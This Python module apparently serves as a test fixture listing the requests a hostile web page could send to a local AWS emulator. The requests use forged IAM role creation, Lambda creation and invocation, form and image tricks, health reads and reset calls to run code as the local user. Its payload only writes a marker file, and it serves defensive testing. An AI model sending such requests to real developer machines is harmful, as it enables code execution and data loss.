"""What a hostile page sends to the local cloud to run code as the user who started it."""

from __future__ import annotations

import base64
import io
import json
import zipfile
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

TRUST = {"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}
MAKE_ROLE = {
    "Action": "CreateRole",
    "Version": "2010-05-08",
    "RoleName": "hostile",
    "AssumeRolePolicyDocument": json.dumps({"Version": "2012-10-17", "Statement": [TRUST]}),
}
ROLE = "arn:aws:iam::000000000000:role/hostile"
SIGNED = "AWS4-HMAC-SHA256 Credential=test/20261129/us-east-1/{service}/aws4_request, SignedHeaders=host, Signature=0"


def attempts(written: Path) -> list[dict[str, Any]]:
    """Requests, in order, after which a file is written: make a role and a function, run it. Then
    what reads, and what clears everything.
    """
    found = []
    for way, mode in (("simple", "no-cors"), ("with headers", "cors")):
        name = f"hostile-{mode}"
        made = json.dumps(
            {
                "FunctionName": name,
                "Runtime": "python3.13",
                "Handler": "main.handler",
                "Role": ROLE,
                "Code": {"ZipFile": _code(written / mode)},
            }
        )
        for service, path, body in (
            ("iam", "/", urlencode(MAKE_ROLE)),
            ("lambda", "/2015-03-31/functions", made),
            ("lambda", f"/2015-03-31/functions/{name}/invocations", "{}"),
        ):
            found.append(_fetch(f"{way} {path}", service, path, body, mode))
    found += [
        {"way": "form", "name": "form", "path": _query("/", "iam"), "fields": MAKE_ROLE | {"RoleName": "by-form"}},
        {
            "way": "image",
            "name": "image",
            "path": _query("/", "iam") + "&" + urlencode(MAKE_ROLE | {"RoleName": "by-image"}),
        },
        {"way": "socket", "name": "socket", "path": "/_aws/appsync"},
    ]
    for path in ("/health", "/_ministack/health", "/_ministack/sqs/messages", "/_localstack/health"):
        found.append({"way": "fetch", "name": path, "path": path, "method": "GET", "mode": "cors"})
    for path in ("/_ministack/reset", "/_ministack/config", "/_microburst/rules"):
        found.append({"way": "fetch", "name": path, "path": path, "method": "POST", "mode": "no-cors", "body": "{}"})
    return found


def _fetch(name: str, service: str, path: str, body: str, mode: str) -> dict[str, Any]:
    """A fetch with credentials: in the address, which asks nobody first, or in a header."""
    attempt: dict[str, Any] = {"way": "fetch", "name": name, "method": "POST", "mode": mode, "body": body}
    kind = "application/x-www-form-urlencoded" if service == "iam" else "text/plain"
    if mode == "no-cors":
        return attempt | {"path": _query(path, service), "headers": {"Content-Type": kind}}
    return attempt | {"path": path, "headers": {"Content-Type": kind, "Authorization": SIGNED.format(service=service)}}


def _query(path: str, service: str) -> str:
    credential = f"test/20261129/us-east-1/{service}/aws4_request"
    signed = {"X-Amz-Algorithm": "AWS4-HMAC-SHA256", "X-Amz-Credential": credential, "X-Amz-SignedHeaders": "host"}
    return f"{path}?{urlencode(signed | {'X-Amz-Date': '20261129T000000Z', 'X-Amz-Signature': '0'})}"


def _code(written: Path) -> str:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as package:
        package.writestr("main.py", f"def handler(event, context):\n    open({str(written)!r}, 'w').close()\n")
    return base64.b64encode(archive.getvalue()).decode()
